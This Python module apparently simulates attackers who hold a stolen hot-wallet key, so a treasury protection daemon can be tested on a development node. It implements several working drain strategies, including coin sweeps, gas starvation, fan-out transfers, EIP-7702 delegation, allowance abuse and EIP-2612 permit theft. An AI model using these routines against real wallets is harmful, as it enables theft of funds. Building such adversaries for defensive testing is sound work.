"""Thieves with a copy of a hot wallet's key, each with the manners of one that is known.

A crook knows nothing of the daemon: it has a key, a node and a place for the loot. `steps` yields
after each transaction that the node took; whoever drives it decides how soon the next one follows.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from contextlib import closing
from typing import Any

from eth_account import Account
from eth_account.signers.local import LocalAccount

from policies.crypto import keccak256, parse_address
from policies.terms import Address
from treasury.dev.contracts import load_artifact
from treasury.dev.contracts.deploy import calldata
from treasury.dev.node_client import DevelopmentNode, DevelopmentNodeError

GWEI = 10**9
ETHER = 10**18
_PLAIN_GAS, _TOKEN_GAS = 21_000, 80_000
_TIP = 5 * GWEI
_LATE = 2**63
_LAIR: LocalAccount = Account.from_key(keccak256(b"a crook with play money"))


class Crook:
    """One thief at one wallet; `tokens` are contracts by symbol, the most valuable first."""

    def __init__(self, url: str, key: bytes, tokens: Mapping[str, Address]) -> None:
        self.node = DevelopmentNode(url)
        self.account: LocalAccount = Account.from_key(key)
        self.victim = parse_address(self.account.address)
        self.lair = parse_address(_LAIR.address)
        self.tokens = tokens
        self.hashes: list[str] = []
        self.chain_id = self.node.number("eth_chainId")

    def leave(self) -> None:
        """Close the connection."""
        self.node.close()

    def coins(self, holder: Address) -> int:
        """Return native coins of an address, in wei."""
        return self.node.number("eth_getBalance", holder, "latest")

    def held(self, symbol: str, holder: Address) -> int:
        """Return what an address holds of a token or of ETH, in base units."""
        if symbol not in self.tokens:
            return self.coins(holder)
        data = calldata(load_artifact("MintableToken"), "balanceOf", (holder,))
        call = {"to": self.tokens[symbol], "data": "0x" + data.hex()}
        return self.node.number("eth_call", call, "latest")

    def take_coins(self, amount: int, to: Address | None = None, *, ahead: int = 0) -> None:
        """Send native coins away; `ahead` counts transactions of the same step before it."""
        if amount > 0:
            self.send({"to": to or self.lair, "value": amount, "gas": _PLAIN_GAS}, ahead=ahead)

    def take_token(self, symbol: str) -> None:
        """Send all of a token away."""
        amount = self.held(symbol, self.victim)
        data = calldata(load_artifact("MintableToken"), "transfer", (self.lair, amount))
        if amount:
            self.send({"to": self.tokens[symbol], "data": data, "gas": _TOKEN_GAS})

    def send(
        self, fields: Mapping[str, Any], *, by: LocalAccount | None = None, ahead: int = 0
    ) -> None:
        """Sign with the stolen key (or the crook's own) on the chain's next nonce, and send."""
        signer = by or self.account
        nonce = self.node.number("eth_getTransactionCount", signer.address, "latest") + ahead
        common = {
            "type": 2,
            "chainId": self.chain_id,
            "nonce": nonce,
            "value": 0,
            "maxFeePerGas": self.price(),
            "maxPriorityFeePerGas": _TIP,
        }
        signed = signer.sign_transaction({**common, **fields})
        raw = "0x" + bytes(signed.raw_transaction).hex()
        self.hashes.append(self.node.call("eth_sendRawTransaction", raw))

    def price(self) -> int:
        """Return the crook's bid, well above the market."""
        block = self.node.call("eth_getBlockByNumber", "latest", False)
        return 2 * int(block["baseFeePerGas"], 16) + _TIP


def by_value(crook: Crook) -> Iterator[None]:
    """Take most coins, then each token by value, then what is left of the coins."""
    crook.take_coins(crook.coins(crook.victim) * 9 // 10)
    yield
    for symbol in crook.tokens:
        crook.take_token(symbol)
        yield
    crook.take_coins(crook.coins(crook.victim) - _PLAIN_GAS * crook.price())
    yield


def gas_first(crook: Crook) -> Iterator[None]:
    """Take every coin, so that the owner has no gas; bring gas for each token oneself."""
    crook.take_coins(crook.coins(crook.victim) - _PLAIN_GAS * crook.price())
    yield
    for symbol in crook.tokens:
        gas = 2 * _TOKEN_GAS * crook.price()
        crook.send({"to": crook.victim, "value": gas, "gas": _PLAIN_GAS}, by=_LAIR)
        yield
        crook.take_token(symbol)
        yield


def fan_out(crook: Crook) -> Iterator[None]:
    """Send a tenth to each of five fresh addresses within one block, then the tokens."""
    part = crook.coins(crook.victim) // 10
    for number in range(5):
        fresh = parse_address("0x" + keccak256(b"fan%d" % number)[12:].hex())
        crook.take_coins(part, fresh, ahead=number)
    yield
    for symbol in crook.tokens:
        crook.take_token(symbol)
        yield


def delegate(crook: Crook) -> Iterator[None]:
    """Delegate the wallet to a contract (EIP-7702) before anything moves, then take the coins."""
    nonce = crook.node.number("eth_getTransactionCount", crook.victim, "latest")
    target = next(iter(crook.tokens.values()))
    authorisation = crook.account.sign_authorization(
        {"chainId": crook.chain_id, "address": target, "nonce": nonce}
    )
    fields = {
        "type": 4, "to": crook.victim, "gas": 200_000, "authorizationList": [authorisation],
        "data": b"",
    }  # fmt: skip
    crook.send(fields, by=_LAIR)
    yield
    crook.take_coins(crook.coins(crook.victim) // 2)
    yield


def allowance(crook: Crook) -> Iterator[None]:
    """Approve an own address for a token, and let that take it with its own key."""
    symbol, token = next(iter(crook.tokens.items()))
    artifact = load_artifact("MintableToken")
    crook.send({
        "to": token, "data": calldata(artifact, "approve", (crook.lair, 2**255)), "gas": _TOKEN_GAS
    })  # fmt: skip
    yield
    amount = crook.held(symbol, crook.victim)
    data = calldata(artifact, "transferFrom", (crook.victim, crook.lair, amount))
    crook.send({"to": token, "data": data, "gas": _TOKEN_GAS}, by=_LAIR)
    yield


def permit(crook: Crook) -> Iterator[None]:
    """Sign a permit (EIP-2612) off the chain, and let the lair take the token with its own key.

    No transaction of the wallet, no nonce, and both steps stand in one block.
    """
    artifact = load_artifact("PermitToken")
    symbol, token = next(iter(crook.tokens.items()))
    amount = crook.held(symbol, crook.victim)
    signed = crook.account.sign_typed_data(**_permit_message(crook, symbol, amount))
    rsv = (signed.v, *(n.to_bytes(32, "big") for n in (signed.r, signed.s)))
    data = calldata(artifact, "permit", (crook.victim, crook.lair, amount, _LATE, *rsv))
    crook.send({"to": token, "data": data, "gas": 120_000}, by=_LAIR)
    data = calldata(artifact, "transferFrom", (crook.victim, crook.lair, amount))
    crook.send({"to": token, "data": data, "gas": _TOKEN_GAS}, by=_LAIR, ahead=1)
    yield


def _permit_message(crook: Crook, symbol: str, amount: int) -> dict[str, Any]:
    words = {"owner": "address", "spender": "address"}
    words |= dict.fromkeys(("value", "nonce", "deadline"), "uint256")
    return {
        "domain_data": {
            "name": symbol,
            "version": "1",
            "chainId": crook.chain_id,
            "verifyingContract": crook.tokens[symbol],
        },
        "message_types": {"Permit": [{"name": n, "type": t} for n, t in words.items()]},
        "message_data": {
            "owner": crook.victim,
            "spender": crook.lair,
            "value": amount,
            "nonce": 0,
            "deadline": _LATE,
        },
    }


MANNERS: Mapping[str, Callable[[Crook], Iterator[None]]] = {
    "by_value": by_value,
    "gas_first": gas_first,
    "fan_out": fan_out,
    "delegate_7702": delegate,
    "allowance": allowance,
    "permit": permit,
}


def fund_lair(url: str) -> None:
    """Give the crook coins of its own, for gas."""
    with closing(DevelopmentNode(url)) as node:
        node.set_balance(_LAIR.address, ETHER)


def is_refused(error: DevelopmentNodeError) -> bool:
    """Say whether the node would not take a transaction because somebody was quicker."""
    words = ("nonce", "insufficient", "underpriced", "balance", "funds", "known")
    return any(word in str(error).lower() for word in words)
